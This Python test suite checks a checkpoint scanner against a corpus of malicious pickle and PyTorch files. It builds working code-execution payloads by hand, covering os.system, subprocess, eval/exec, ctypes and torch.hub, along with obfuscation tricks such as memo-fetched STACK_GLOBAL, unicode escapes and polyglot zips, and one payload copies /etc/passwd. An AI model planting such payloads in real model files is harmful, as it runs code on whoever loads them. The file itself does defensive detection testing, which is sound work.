#!/usr/bin/python3
"""`scan` against a corpus of malicious checkpoints built here opcode by opcode, and real benign ones.

Every payload would create a marker file if a real unpickler ran it. Where that is safe to show, the
test first proves it: a child /usr/bin/python3 runs pickle.load (or torch.load) on the file in a
scratch directory and the marker appears. Then the tool scans (text and --json), inspects and
verifies the file: the marker never appears again, scan exits 1 and names the dangerous global (or
the trick) with its record and byte offset. Families: os / posix / nt, subprocess, builtins eval /
exec / compile / open / getattr / __import__ (also as Python 2's __builtin__), runpy, importlib,
pickle / _pickle, shutil, socket, ctypes, webbrowser, functools.partial, operator.attrgetter /
methodcaller, torch.load, torch.hub, torch.jit, through GLOBAL, INST and STACK_GLOBAL (memo-fetched
strings, raw-unicode escapes), nested in bytes, in another record of the zip, in the legacy
format's header pickles, and a pickle with a zip behind it. Benign checkpoints (every inspect
fixture, the samples, legacy and safetensors files) report nothing dangerous.

Usage: test_scan.py --tool PATH --work DIR
"""
import glob
import io
import json
import os
import struct
import subprocess
import sys
import zipfile

import torch

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.abspath(os.path.join(HERE, "..", ".."))
sys.path.insert(0, HERE)
from test_repair import schema_problems, suite_main  # noqa: E402

PY = "/usr/bin/python3"


# --- pickle opcodes, by hand ---------------------------------------------------------------------
def g(mod, name):
    return b"c" + mod.encode() + b"\n" + name.encode() + b"\n"


def s(text):
    b = text.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def by(data):
    return b"B" + struct.pack("<I", len(data)) + data


def lst(*items):
    return b"](" + b"".join(s(i) for i in items) + b"e"


def call(fn, *args):
    """fn: opcodes pushing a callable; args: opcodes pushing each argument."""
    return fn + b"(" + b"".join(args) + b"tR"


def pickle_of(body, proto=2):
    return b"\x80" + bytes([proto]) + body + b"."


def touch(marker):
    return "touch " + marker


def payloads(m):
    """(name, pickle bytes, dangerous global the scan must name (or finding kind), run it to prove it)."""
    imp = lambda mod: call(g("builtins", "__import__"), s(mod))  # noqa: E731
    code = "import os; os.system(%r)" % touch(m)
    inner = pickle_of(call(g("os", "system"), s(touch(m))))
    return [
        ("os.system", pickle_of(call(g("os", "system"), s(touch(m)))), "os.system", True),
        ("posix.system", pickle_of(call(g("posix", "system"), s(touch(m)))), "posix.system", True),
        ("nt.system", pickle_of(call(g("nt", "system"), s(touch(m)))), "nt.system", False),
        ("subprocess.call", pickle_of(call(g("subprocess", "call"), lst("touch", m))), "subprocess.call", True),
        ("subprocess.Popen", pickle_of(call(g("subprocess", "Popen"), lst("touch", m))), "subprocess.Popen", False),
        ("builtins.eval", pickle_of(call(g("builtins", "eval"), s("__import__('os').system(%r)" % touch(m)))), "builtins.eval", True),
        ("builtins.exec", pickle_of(call(g("builtins", "exec"), s(code))), "builtins.exec", True),
        ("builtins.compile", pickle_of(call(g("builtins", "exec"), call(g("builtins", "compile"), s(code), s("x"), s("exec")))),
         "builtins.compile", True),
        ("builtins.open", pickle_of(call(g("builtins", "open"), s(m), s("w"))), "builtins.open", True),
        ("builtins.getattr", pickle_of(call(call(g("builtins", "getattr"), imp("os"), s("system")), s(touch(m)))), "builtins.getattr", True),
        ("__builtin__.__import__ (Python 2 name)",
         pickle_of(call(call(g("__builtin__", "getattr"), call(g("__builtin__", "__import__"), s("os")), s("system")), s(touch(m)))),
         "builtins.__import__", True),
        ("runpy._run_code", pickle_of(call(g("runpy", "_run_code"), call(g("builtins", "compile"), s(code), s("x"), s("exec")), b"}")),
         "runpy._run_code", True),
        ("importlib.import_module",
         pickle_of(call(call(g("builtins", "getattr"), call(g("importlib", "import_module"), s("os")), s("system")), s(touch(m)))),
         "importlib.import_module", True),
        ("pickle.loads", pickle_of(call(g("pickle", "loads"), by(inner))), "pickle.loads", True),
        ("_pickle.loads", pickle_of(call(g("_pickle", "loads"), by(inner))), "_pickle.loads", True),
        ("shutil.copy", pickle_of(call(g("shutil", "copy"), s("/etc/passwd"), s(m))), "shutil.copy", True),
        ("socket.gethostname then os.system",
         pickle_of(b"(" + call(g("socket", "gethostname")) + call(g("os", "system"), s(touch(m))) + b"t"), "socket.gethostname", True),
        ("ctypes.CDLL", pickle_of(call(call(g("builtins", "getattr"), call(g("ctypes", "CDLL"), b"N"), s("system")), by(touch(m).encode()))),
         "ctypes.CDLL", True),
        ("webbrowser.open", pickle_of(call(g("webbrowser", "open"), s("file://" + m))), "webbrowser.open", False),
        ("functools.partial", pickle_of(call(call(g("functools", "partial"), g("os", "system"), s(touch(m))))), "functools.partial", True),
        ("operator.methodcaller", pickle_of(call(call(g("operator", "methodcaller"), s("system"), s(touch(m))), imp("os"))),
         "operator.methodcaller", True),
        ("operator.attrgetter", pickle_of(call(call(call(g("operator", "attrgetter"), s("system")), imp("os")), s(touch(m)))),
         "operator.attrgetter", True),
        ("torch.hub.load", pickle_of(call(g("torch.hub", "load"), s("evil/repo"), s("model"))), "torch.hub.load", False),
        ("torch.jit.load", pickle_of(call(g("torch.jit", "load"), s("/tmp/evil.pt"))), "torch.jit.load", False),
        ("STACK_GLOBAL through the memo",
         pickle_of(b"\x8c\x02os\x94\x8c\x06system\x94h\x00h\x01\x93(" + s(touch(m)) + b"tR", proto=4), "os.system", True),
        ("STACK_GLOBAL of raw-unicode escapes",
         pickle_of(b"Vpo\\u0073ix\np0\nVsy\\u0073tem\np1\ng0\ng1\n\x93(" + s(touch(m)) + b"tR", proto=2), "posix.system", True),
        ("INST", pickle_of(b"(" + s(touch(m)) + b"ios\nsystem\n"), "os.system", True),
        ("nested in bytes", pickle_of(b"}" + s("blob") + by(inner) + b"s"), "os.system", False),
    ]


def torch_zip(data_pkl, extra=()):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        z.writestr("archive/data.pkl", data_pkl)
        for name, data in extra:
            z.writestr(name, data)
        z.writestr("archive/version", "3\n")
    return buf.getvalue()


def run_for_real(work, path, loader):
    """Runs the file with a real unpickler in a child (cwd `work`): the payload's marker should appear."""
    code = ("import pickle, sys, torch, warnings\nwarnings.simplefilter('ignore')\n"
            "f = sys.argv[1]\ntry:\n  %s\nexcept Exception:\n  pass\n" % loader)
    subprocess.run([PY, "-c", code, path], cwd=work, capture_output=True, timeout=60)


def test_malicious(s_):
    work = s_.path("evil")
    os.makedirs(work)
    benign_zip = open(os.path.join(ROOT, "data", "resnet_ddp.pth"), "rb").read()
    cases = []
    for i, (name, pk, want, run) in enumerate(payloads("MARK")):
        cases.append((name, "p%02d.pkl" % i, pk, want, run, "pickle"))
    m = "MARK"
    os_payload = pickle_of(call(g("os", "system"), s(touch(m))))
    cases += [
        ("zip: data.pkl", "z_data.pth", torch_zip(os_payload), "os.system", True, "torch"),
        ("zip: another record", "z_extra.pth", torch_zip(pickle_of(b"}"), [("archive/extra.pkl", os_payload)]), "os.system", False, "torch"),
        ("a pickle with a zip behind it", "polyglot.pth", os_payload + benign_zip, "polyglot", True, "torch"),
        ("legacy: payload as sys_info", "legacy_sysinfo.pth",
         b"\x80\x02\x8a\x0a\x6c\xfc\x9c\x46\xf9\x20\x6a\xa8\x50\x19." + pickle_of(b"M\xe9\x03") + os_payload + pickle_of(b"}") + pickle_of(b"]"),
         "os.system", True, "torch"),
        ("torch.load of a payload", "torch_load.pkl", pickle_of(call(g("torch", "load"), s("p00.pkl"))), "torch.load", True, "pickle"),
    ]
    for name, fname, data, want, run, loader in cases:
        path = os.path.join(work, fname)
        with open(path, "wb") as f:
            f.write(data)
        marker = os.path.join(work, m)
        if run:
            load = "torch.load(f)" if loader == "torch" else "pickle.load(open(f, 'rb'))"
            run_for_real(work, path, load)
            s_.check(os.path.exists(marker), "%s: the payload is not real (a real unpickler did not create the marker)" % name)
            if os.path.exists(marker):
                os.remove(marker)
        for args in (["scan", path], ["scan", path, "--json"], ["scan", "--strict", path, "--json"]):
            r = subprocess.run([s_.tool] + args, cwd=work, capture_output=True, text=True)
            s_.check(r.returncode == 1, "%s: %s exit %d %s" % (name, " ".join(args[:-1]), r.returncode, r.stderr.strip()))
            if "--json" in args and r.stdout:
                j = json.loads(r.stdout)
                s_.check(not schema_problems(j), "%s: scan JSON vs schema: %s" % (name, schema_problems(j)[:3]))
                found = [x for f in j["files"] for x in f["findings"] if x["severity"] == "dangerous"]
                hit = [x for x in found if x["global"] == want or x["kind"] == want]
                s_.check(hit and all(x["record"] or x["kind"] == "polyglot" for x in hit) and all(x["offset"] >= 0 for x in hit),
                         "%s: no dangerous finding for %s: %s" % (name, want, [(x["global"], x["kind"]) for x in found]))
            elif not args[-1] == "--json":
                s_.check("dangerous" in r.stdout and (want in r.stdout), "%s: text output lacks %s:\n%s" % (name, want, r.stdout))
        for args in (["inspect", path], ["verify", path, "--all"], ["diff-keys", path, path]):
            subprocess.run([s_.tool] + args, cwd=work, capture_output=True, text=True)
        s_.check(not os.path.exists(marker), "%s: the marker exists after ckpt-tool ran on it" % name)
    # the offset names the opcode: the GLOBAL of os.system in a plain pickle sits right after PROTO
    r = subprocess.run([s_.tool, "scan", os.path.join(work, "p00.pkl"), "--json"], capture_output=True, text=True)
    j = json.loads(r.stdout)
    s_.check([(x["global"], x["offset"]) for x in j["files"][0]["findings"]] == [("os.system", 2)],
             "os.system finding offset: %s" % j["files"][0]["findings"])
    # several files at once, one unreadable: the others reported, exit 2
    r = subprocess.run([s_.tool, "scan", os.path.join(work, "p00.pkl"), os.path.join(work, "missing.pth"), "--json"],
                       capture_output=True, text=True)
    s_.check(r.returncode == 2 and len(json.loads(r.stdout)["files"]) == 1 and "missing.pth" in r.stderr
             and len(r.stderr.strip().splitlines()) == 1, "scan with a missing file: exit %d %r" % (r.returncode, r.stderr))


def test_benign(s_):
    work = s_.path("benign")
    os.makedirs(work)
    subprocess.run([PY, os.path.join(ROOT, "tests", "fixtures", "make_fixtures.py"), work], check=True, capture_output=True)
    files = sorted(glob.glob(os.path.join(work, "*.pth"))) + sorted(glob.glob(os.path.join(ROOT, "data", "*.pth")))
    import argparse
    import numpy as np
    ckpt = {"model": torch.nn.Linear(3, 2).state_dict(), "args": argparse.Namespace(lr=0.1), "loss": np.float64(0.25),
            "hist": np.arange(4), "epoch": 3}
    for legacy in (False, True):
        p = os.path.join(work, "train_np%s.pth" % ("_legacy" if legacy else ""))
        torch.save(ckpt, p, _use_new_zipfile_serialization=not legacy)
        files.append(p)
    r = subprocess.run([s_.tool, "convert", os.path.join(ROOT, "data", "resnet_ddp.pth"), "-o", os.path.join(work, "r.safetensors")],
                       capture_output=True, text=True)
    files.append(os.path.join(work, "r.safetensors"))
    r = subprocess.run([s_.tool, "scan", "--json"] + files, capture_output=True, text=True)
    s_.check(r.returncode == 0, "benign files: scan exit %d %s" % (r.returncode, r.stderr.strip()))
    j = json.loads(r.stdout) if r.stdout else {"files": []}
    s_.check(not schema_problems(j), "benign scan JSON vs schema: %s" % schema_problems(j)[:3])
    s_.check(len(j["files"]) == len(files), "benign: %d of %d files scanned" % (len(j["files"]), len(files)))
    for f in j["files"]:
        bad = [x for x in f["findings"] if x["severity"] == "dangerous"]
        s_.check(not bad, "%s: dangerous findings in a benign file: %s" % (f["file"], bad))
        s_.check(f["pickles"] or f["format"] == "safetensors", "%s: no pickle scanned" % f["file"])
    np_file = [f for f in j["files"] if f["file"].endswith("train_np_legacy.pth")][0]
    s_.check(np_file["format"] == "legacy" and len(np_file["pickles"]) == 5
             and {"argparse.Namespace", "numpy.core.multiarray.scalar"} <= {x["global"] for x in np_file["globals"]},
             "legacy benign file: %s %s" % (np_file["format"], [x["global"] for x in np_file["globals"]]))
    # --strict: the pickled __main__ class of a fixture is unknown, so exit 1 there
    unknown = [f["file"] for f in j["files"] if f["unknown"]]
    if unknown:
        r = subprocess.run([s_.tool, "scan", "--strict", unknown[0]], capture_output=True, text=True)
        s_.check(r.returncode == 1 and "unknown" in r.stdout, "--strict with an unknown global: exit %d" % r.returncode)


def main():
    def body(s_, _args):
        test_malicious(s_)
        test_benign(s_)
    return suite_main(body)


if __name__ == "__main__":
    sys.exit(main())
